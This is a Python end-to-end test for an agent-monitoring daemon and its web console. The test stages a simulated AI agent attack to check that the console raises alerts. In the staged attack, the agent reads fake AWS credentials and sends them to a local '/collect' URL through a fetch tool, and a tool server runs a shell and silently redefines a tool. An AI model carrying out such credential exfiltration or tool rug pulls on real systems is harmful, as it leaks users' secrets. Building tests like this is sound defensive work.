#!/usr/bin/env python3
"""e2e: the web console (issue 18) in a real browser against the real daemon.

agentwatchd runs with the console on a loopback port; an agent (an
@modelcontextprotocol/sdk client) reads a (fake) ~/.aws/credentials through
server-filesystem and hands it to the fetch tool of tests/e2e/tool_server.mjs,
which sends it to a web server on 127.0.0.2 (the test's rules narrow the
egress allow-list to 127.0.0.1, so this leaves); the tool server also runs
`cat` through a shell (the dynamic loader's opens) and redefines a tool
(a rug pull). Then Debian's chromium, headless, driven by playwright-core
(tests/e2e/console_browser.mjs):
  - the assets come with the security headers (CSP default-src 'self',
    nosniff, no-store) and the pages load without a console error or an
    uncaught exception (a CSP violation is a console error);
  - the alert list shows the exfiltration alert, with its evidence; the
    minimum-severity filter shows exactly the alerts at or above it;
  - its chain link opens the timeline: the read call holds the sensitive
    path (marked secret), the fetch call its connection to 127.0.0.2 (marked
    egress) and the data flow from the read; loader opens are one mark per
    call, and every one of them when asked;
  - the servers page, the tool server's change history as a diff, its
    process tree (the shell and cat), baselines and status;
  - SIGTERM to the daemon: the "disconnected" banner.
Screenshots go to build/Testing/console/ (their paths are printed).

Exit 77 = skipped (not root, node, the npm packages or chromium missing),
unless AGENTWATCH_REQUIRE_BPF=1.
"""
import http.client
import json
import os
import re
import shutil
import signal
import subprocess
import time

from awtest import (MODULES, TESTS, begin, check, fake_aws_credentials, finish_run, free_port,
                    listening, outside_web, skip_or_fail, start_daemon, wait_for, write_file)

HERE = os.path.dirname(os.path.abspath(__file__))
CLIENT = os.path.join(HERE, "mcp_client.mjs")
TOOL_SERVER = os.path.join(HERE, "tool_server.mjs")
BROWSER = os.path.join(HERE, "console_browser.mjs")
FS = os.path.join(MODULES, "server-filesystem", "dist", "index.js")
CHROMIUM = "/usr/bin/chromium"
RULE = "sensitive-read-then-egress"
ORDER = ["info", "low", "medium", "high", "critical"]


def get(port, path, host=None):
    """(status, headers as a lower-case dict, body) of GET path."""
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        c.request("GET", path, headers={"Host": host or f"127.0.0.1:{port}"})
        r = c.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()
    finally:
        c.close()


def api(port, path):
    try:
        status, _, body = get(port, path)
    except OSError:
        return {}
    return json.loads(body) if status == 200 else {}


def rank(sev):
    return ORDER.index(sev) if sev in ORDER else 0


def main():
    bindir, cli, tmp, endpoint = begin("aw-console-e2e-")
    if not (os.access(CHROMIUM, os.X_OK) and
            os.path.isdir(os.path.join(TESTS, "node_modules", "playwright-core"))):
        shutil.rmtree(tmp, ignore_errors=True)
        return skip_or_fail("needs Debian's chromium and playwright-core (scripts/install-deps.sh)")
    shots = os.path.join(os.path.dirname(os.path.abspath(bindir)), "Testing", "console")
    os.makedirs(shots, exist_ok=True)
    state = os.path.join(tmp, "state")
    creds = fake_aws_credentials(os.path.join(tmp, "home"))
    project = os.path.join(tmp, "project")
    write_file(os.path.join(project, "README.md"), "# demo\n")
    rules = os.path.join(tmp, "rules.d")
    write_file(os.path.join(rules, "10-test.yaml"),
               "lists:\n  egress_allow: [\"127.0.0.1/32\"]\n"
               f"  scope_areas: {{append: [\"{tmp}/**\"]}}\n")
    port = free_port()
    procs = []
    web, web_port = outside_web()
    try:
        daemon = start_daemon(bindir, endpoint, os.path.join(tmp, "daemon.log"),
                              "--console-listen", f"127.0.0.1:{port}",
                              "--state-dir", state, "--rules-dir", rules, "--log-level", "info")
        procs.append(daemon)
        wait_for(lambda: listening(port), 30, "the console's listener")

        # The assets and their headers, and a foreign Host refused.
        for path, ctype in (("/", "text/html"), ("/assets/app.js", "javascript"),
                            ("/assets/app.css", "text/css")):
            status, hdr, body = get(port, path)
            check(status == 200 and ctype in hdr.get("content-type", "") and body,
                  f"{path} is served as {ctype}: {status} {hdr.get('content-type')}")
            check("default-src 'self'" in hdr.get("content-security-policy", ""),
                  f"{path} carries CSP default-src 'self': {hdr}")
            check(hdr.get("x-content-type-options") == "nosniff", f"{path} is nosniff: {hdr}")
            check("no-store" in hdr.get("cache-control", ""), f"{path} is no-store: {hdr}")
        status, _, _ = get(port, "/api/status", host="attacker.example")
        check(not 200 <= status < 300, f"a non-local Host header is refused: {status}")

        url = f"http://127.0.0.2:{web_port}/collect?d={{{{previous}}}}"
        attack = subprocess.run(
            ["node", CLIENT, "stdio", "node", FS, tmp],
            env=dict(os.environ,
                     CALLS=json.dumps([{"tool": "read_text_file", "arguments": {"path": creds}}]),
                     THEN_STDIO=f"node {TOOL_SERVER} --rugpull {project}",
                     THEN_CALLS=json.dumps([
                         {"tool": "fetch_url", "arguments": {"url": url}},
                         {"tool": "run_command", "arguments": {"command": f"cat {project}/README.md"}},
                         {"tool": "note", "arguments": {"text": "hello"}},
                         {"list": True},
                     ])),
            capture_output=True, text=True, timeout=60, cwd=TESTS)
        check(attack.returncode == 0, f"attacking agent: {attack.stderr[-500:]}")

        want = {RULE, "sensitive-data-sent-out", "tool-definition-changed"}
        wait_for(lambda: want <= {a.get("rule_id") for a in
                                  api(port, "/api/alerts?limit=1000").get("alerts", [])},
                 30, f"the alerts {sorted(want)} in /api/alerts")
        alerts = api(port, "/api/alerts?limit=1000").get("alerts", [])
        exfil = next(a for a in alerts if a.get("rule_id") == RULE)
        chain_id = str(exfil.get("chain_id", "0"))
        # The chain holds the calls once the agent has ended (the stream
        # would append them too; waiting here keeps the check plain).
        wait_for(lambda: any((e.get("call") or {}).get("tool") == "run_command"
                             for e in api(port, f"/api/chains/{chain_id}?limit=500").get("entries", [])),
                 30, "the chain's calls")

        stop_file = os.path.join(tmp, "stop-now")
        conf = os.path.join(tmp, "browser.json")
        write_file(conf, json.dumps({
            "url": f"http://127.0.0.1:{port}", "chromium": CHROMIUM, "screenshots": shots,
            "rule": RULE, "read_tool": "read_text_file", "send_tool": "fetch_url",
            "tool_server": "tool-server", "stop_file": stop_file}))
        drv = subprocess.Popen(["node", BROWSER, conf], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, cwd=TESTS)
        procs.append(drv)
        # The browser says when the daemon may stop (the banner check).
        while drv.poll() is None and not os.path.exists(stop_file):
            time.sleep(0.1)
        if os.path.exists(stop_file):
            daemon.send_signal(signal.SIGTERM)
            daemon.wait(timeout=30)
        out_text, err_text = drv.communicate(timeout=180)
        check(drv.returncode == 0, f"the browser driver: {err_text[-1500:]}")
        lines = [l for l in out_text.splitlines() if l.startswith("{")]
        r = json.loads(lines[-1]) if lines else {}
        check(not r.get("error"), f"the browser run went through: {r.get('error')}")

        # Headers as the browser got them; no console errors while the
        # daemon ran.
        for path in ("/", "/assets/app.js", "/assets/app.css"):
            h = r.get("headers", {}).get(path, {})
            check("default-src 'self'" in h.get("content-security-policy", ""),
                  f"the browser got {path} with the CSP: {h}")
        check(r.get("console_errors") == [], f"no console errors or page errors: {r.get('console_errors')}")
        check(r.get("live") is True, "the connection indicator says live")

        # Alerts and the severity filter.
        listed = r.get("alerts_all", [])
        rules_listed = [a["rule"] for a in listed]
        check(RULE in rules_listed and r.get("alert_found"), f"the alert list shows {RULE}: {rules_listed}")
        check(set(rules_listed) >= want, f"the alert list shows {sorted(want)}: {rules_listed}")
        times = [next((a.get("time_unix_ns") for a in alerts if str(a.get("id")) == x["id"]), "0")
                 for x in listed]
        check([int(t) for t in times] == sorted((int(t) for t in times), reverse=True),
              f"newest first: {times}")
        for sev in ("critical", "high"):
            got = sorted(a["id"] for a in r.get(f"alerts_min_{sev}", []))
            expect = sorted(a["id"] for a in listed if rank(a["severity"]) >= rank(sev))
            check(got == expect and got, f"min severity {sev} lists exactly those at or above it: "
                  f"{got} vs {expect}")
        check(len(r.get("alerts_min_high", [])) < len(listed),
              "the high filter hides the medium tool-definition-changed alert")
        check(sorted(a["id"] for a in r.get("alerts_min_any", [])) == sorted(a["id"] for a in listed),
              "no minimum lists them all again")
        ev = " ".join(r.get("evidence", []))
        check(creds in ev and f"127.0.0.2:{web_port}" in ev,
              f"the expanded alert shows the read of {creds} and the destination: {ev[:600]}")

        # The chain timeline.
        check(r.get("chain_url", "").endswith(f"#/chain/{chain_id}"),
              f"the link opens chain {chain_id}: {r.get('chain_url')}")
        rows = r.get("rows", [])
        by_tool = {}
        for row in rows:
            by_tool.setdefault(row["tool"], []).append(row)
        send = (by_tool.get("fetch_url") or [{}])[0]
        read = (by_tool.get("read_text_file") or [{}])[0]
        dest = f"127.0.0.2:{web_port}"
        send_marks = send.get("marks", [])
        check(any(dest in m["text"] and "egress" in m["classes"] for m in send_marks),
              f"the fetch call's connection to {dest} is marked egress: {send_marks}")
        check(any(dest in d for d in send.get("dest", [])), f"an arrow names the destination: {send}")
        check("has-egress" in send.get("classes", []), f"the fetch row is highlighted egress: {send}")
        check(any("data from" in m["text"] and "read_text_file" in m["text"] for m in send_marks),
              f"the fetch call shows the data flow from the read: {send_marks}")
        check(r.get("arrows", 0) >= 1, f"the flow is drawn as an arrow ({r.get('arrows')})")
        read_marks = read.get("marks", [])
        check(any(creds in m["text"] and "secret" in m["classes"] for m in read_marks),
              f"the read call's open of {creds} is marked secret: {read_marks}")
        loader_rows = [row for row in rows
                       if any("loader" in m["classes"] for m in row["marks"])]
        check(loader_rows and all(sum("loader" in m["classes"] for m in row["marks"]) == 1
                                  for row in loader_rows),
              f"loader opens are one mark per call: {[row['marks'] for row in loader_rows][:3]}")
        shell = (by_tool.get("run_command") or [{}])[0]
        shell_loader = [m for m in shell.get("marks", []) if "loader" in m["classes"]]
        check(shell_loader and int(shell_loader[0]["text"].split()[0]) >= 2,
              f"the shell call's loader opens are folded: {shell.get('marks')}")
        loader_open = re.compile(r"^open (/etc/ld\.so|/(usr/)?lib(64)?/|/usr/(share|lib)/locale)")
        shown = [m for m in shell.get("marks", []) if loader_open.match(m["text"])]
        all_shell = next((row for row in r.get("rows_all_loader", []) if row["tool"] == "run_command"), {})
        expanded = [m for m in all_shell.get("marks", []) if loader_open.match(m["text"])]
        check(not shown and shell_loader and
              len(expanded) >= min(10, int(shell_loader[0]["text"].split()[0])) and
              not any("loader" in m["classes"] for m in all_shell.get("marks", [])),
              f"asked for, every loader open is shown: {all_shell.get('marks')}")
        head = r.get("chain_head", "")
        check("calls" in head and str(exfil.get("agent_pid")) in head,
              f"the header names the agent and counts: {head}")
        check("tool-server" in r.get("legend", "") and "egress" in r.get("legend", ""),
              f"the legend has the lanes and colours: {r.get('legend')}")
        check(dest in r.get("details", "") or "127.0.0.2" in r.get("details", ""),
              f"the fetch call's details show its arguments and effects: {r.get('details', '')[:400]}")

        # Servers, the rug pull as a diff, the process tree, baselines, status.
        check(any("tool-server" in s for s in r.get("servers", [])) and
              any("secure-filesystem" in s for s in r.get("servers", [])),
              f"the servers page lists both servers: {r.get('servers')}")
        check("note" in r.get("tools", []) and "fetch_url" in r.get("tools", []),
              f"the tool server's tools: {r.get('tools')}")
        changed = [c for c in r.get("changes", []) if c["tool"] == "note" and "changed" in c["text"]]
        check(changed and changed[0]["added"] and changed[0]["removed"],
              f"the rug pull is a diff with removed and added lines: {r.get('changes')}")
        tree = r.get("process_tree", [])
        check(len(tree) >= 2 and any("/bin/sh" in p["line"] or "sh -c" in p["line"] for p in tree),
              f"the tool server's process tree holds the shell it ran: {tree}")
        check("tool-server" in r.get("baselines", []), f"baselines: {r.get('baselines')}")
        check(r.get("readiness") == "ready" and r.get("probes", 0) > 0 and r.get("counters"),
              f"status: {r.get('readiness')} probes={r.get('probes')} counters={len(r.get('counters', []))}")

        # The daemon stopped: the banner.
        check(r.get("live_before_stop") and r.get("banner_hidden_before_stop"),
              "no banner while the daemon runs")
        check(r.get("banner_shown") and "disconnected" in r.get("banner_text", ""),
              f"the disconnected banner after SIGTERM: {r.get('banner_text')}")
        check(r.get("indicator_after_stop") == "disconnected",
              f"the indicator says disconnected: {r.get('indicator_after_stop')}")
        for name, p in sorted(r.get("screenshots", {}).items()):
            check(os.path.getsize(p) > 0 if os.path.exists(p) else False, f"screenshot {p}")
            print(f"screenshot {name}: {p}")
    finally:
        web.shutdown()
        rc = finish_run(procs, tmp, "console e2e")
    return rc


if __name__ == "__main__":
    raise SystemExit(main())
